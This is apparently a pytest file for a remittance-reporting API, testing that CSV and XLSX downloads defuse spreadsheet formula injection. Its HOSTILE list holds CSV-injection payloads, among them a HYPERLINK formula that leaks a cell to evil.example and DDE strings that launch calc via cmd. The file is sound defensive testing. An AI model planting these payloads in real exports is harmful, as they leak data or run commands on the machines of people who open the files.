"""Report downloads never carry a formula from user data (OWASP CSV injection): text cells that
a spreadsheet would run are quoted in CSV and stored as text in XLSX; our numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlmodel import Session, select

from service.directory.models import Payer
from service.remittance import export
from service.remittance.reports import Table
from service.spreadsheet import csv_text
from tests.claims.conftest import Demo
from tests.remittance.helpers import make_batch

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["ACME HEALTH PLAN", "", "D-1003", "a=b", "'already", "#N/A"])
def test_plain_text_is_left_as_it_is(text: str) -> None:
    assert csv_text(text) == text


@pytest.mark.parametrize("text", ["-12.50", "+3", "-7", "-0.01"])
def test_text_that_is_just_a_number_is_left_as_it_is(text: str) -> None:
    assert csv_text(text) == text


def _table() -> Table:
    return Table(
        "Payments by deposit",
        ["payer_name", "trace_number", "payment_date", "claim_count", "deposit_amount"],
        [
            {
                "payer_name": text,
                "trace_number": "-12.50",
                "payment_date": date(2026, 12, 1),
                "claim_count": 1,
                "deposit_amount": Decimal("-12.50"),
            }
            for text in HOSTILE
        ],
        ["deposit_amount"],
    )


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def test_the_csv_quotes_hostile_text_and_keeps_amounts_and_numbers_as_they_are() -> None:
    _header, *rows, total = _csv_rows(export.to_csv(_table()))

    assert [r[0] for r in rows] == ["'" + text for text in HOSTILE]
    assert {tuple(r[1:]) for r in rows} == {("-12.50", "2026-12-01", "1", "-12.50")}
    assert total == ["TOTAL", "", "", "6", "-75.00"]  # the count is totalled too


def _xlsx_cells(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows(min_row=export.HEADER_ROW)]


def test_the_xlsx_stores_hostile_text_as_text_and_amounts_as_numbers() -> None:
    _header, *rows, total = _xlsx_cells(export.to_xlsx(_table()))

    stored = [t.replace("\r", "\n") for t in HOSTILE]  # XML reads a bare CR back as LF
    assert [(r[0].value, r[0].data_type) for r in rows] == [(t, "s") for t in stored]
    assert all(r[0].quotePrefix for r in rows)  # Excel keeps it text even when edited
    assert {(r[1].value, r[1].data_type) for r in rows} == {("-12.50", "s")}
    assert {(r[4].value, r[4].data_type) for r in rows} == {(-12.5, "n")}
    assert (total[4].value, total[4].data_type) == (-75, "n")


def test_a_payer_named_like_a_formula_downloads_as_text(
    client: TestClient, demo_org: Demo, db: Session
) -> None:
    make_batch(client, demo_org, db)
    hostile = HOSTILE[0]
    for payer in db.exec(select(Payer).where(Payer.organization_id == demo_org.organization_id)):
        payer.name = hostile
        db.add(payer)
    db.commit()
    url = "/api/v1/remittance-reports/balances"

    as_json = client.get(url, headers=demo_org.headers()).json()
    as_csv = client.get(f"{url}?format=csv", headers=demo_org.headers())
    as_xlsx = client.get(f"{url}?format=xlsx", headers=demo_org.headers())

    assert {r["payer_name"] for r in as_json["rows"]} == {hostile}  # JSON is data, not quoted
    columns, *rows, _total = _csv_rows(as_csv.content)
    names = [r[columns.index("payer_name")] for r in rows]
    assert names
    assert set(names) == {"'" + hostile}
    header, *cells, _total_cells = _xlsx_cells(as_xlsx.content)
    column = [h.value for h in header].index("payer_name")
    assert {(r[column].value, r[column].data_type) for r in cells} == {(hostile, "s")}
